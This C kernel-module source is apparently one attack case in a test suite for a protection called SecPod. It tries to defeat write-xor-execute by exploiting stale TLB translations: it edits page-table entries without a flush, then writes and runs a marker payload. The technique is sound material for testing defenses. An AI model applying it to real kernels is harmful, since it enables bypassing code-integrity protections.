/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Uses translations that a CPU has kept: of a page that could be written before it was made code, to write it; of
 * one that was code before it was made data again, to run what was written there then. SecPod has refused nothing
 * when neither works: the CPU has nothing kept.
 */
#include "attack.h"
#include "attack_tables.h"

#include <linux/io.h>
#include <linux/string.h>

#define WAYS 2

static unsigned int done;

/* Where a module may have code: two pages, and what is in them. */
static u64 pages[WAYS][PAGE_SIZE / sizeof(u64)] __aligned(PAGE_SIZE);
/* mov $0, %eax; ret, as one word; and the same with ATTACK_CALLED. */
static const u64 harmless = 0xc300000000b8ull;
static const u64 hostile = 0xb8ull | (u64)ATTACK_CALLED << 8 | 0xc3ull << 40;

static u64 *entry_of(const u64 *page)
{
	return attack_slot((unsigned long)page, 1, NULL);
}

/* The CPU has the page as it is; then the entry says otherwise, and nobody tells the CPU. */
static bool make(u64 *page, bool code)
{
	u64 *entry = entry_of(page);
	const u64 data_rights = _PAGE_RW | _PAGE_NX;

	if (code)
		*(volatile u64 *)page = harmless;
	else
		(void)attack_call((unsigned long)page);
	return attack_store(entry, code ? *entry & ~data_rights : *entry | data_rights);
}

static void write_stale(u64 *page)
{
	unsigned long flags;

	local_irq_save(flags);
	if (make(page, true))
		(void)attack_store(page, hostile);
	local_irq_restore(flags);
	attack_flush();
	done += attack_call((unsigned long)page) == ATTACK_CALLED;
}

static void run_stale(u64 *page)
{
	u64 *direct = phys_to_virt(attack_physical(page));
	unsigned long flags;

	if (!make(page, true))
		return;
	attack_flush();
	local_irq_save(flags);
	if (make(page, false) && attack_store(direct, hostile))
		done += attack_call((unsigned long)page) == ATTACK_CALLED;
	local_irq_restore(flags);
}

static void restore(u64 *page)
{
	u64 *entry = entry_of(page);

	(void)attack_store(entry, *entry | _PAGE_RW | _PAGE_NX);
	attack_flush();
}

static int attempt(void)
{
	if (!entry_of(pages[0]) || !entry_of(pages[1]))
		return -EINVAL;
	write_stale(pages[0]);
	restore(pages[0]);
	run_stale(pages[1]);
	restore(pages[1]);
	return 0;
}

static bool effect(void)
{
	attack_detail("%u of %u ways", done, WAYS);
	return attack_tries(done, WAYS);
}

static const struct attack code_stale = {"code_stale", "", NULL, attempt, effect, NULL};
ATTACK_MODULE(code_stale);
